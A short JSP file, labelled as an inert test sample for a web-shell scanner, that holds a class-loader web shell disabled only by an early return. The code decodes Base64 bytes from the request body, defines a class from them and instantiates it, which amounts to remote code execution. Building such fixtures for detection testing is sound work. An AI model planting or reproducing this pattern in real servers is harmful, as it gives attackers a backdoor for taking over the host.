<%-- shellsweep test sample: inert, never functional --%>
<% if (true) return; %>
<%!
class L extends ClassLoader { L(ClassLoader p) { super(p); } Class d(byte[] b) { return defineClass(null, b, 0, b.length); } }
%>
<%
byte[] b = java.util.Base64.getDecoder().decode(request.getReader().readLine());
new L(getClass().getClassLoader()).d(b).newInstance().toString();
%>
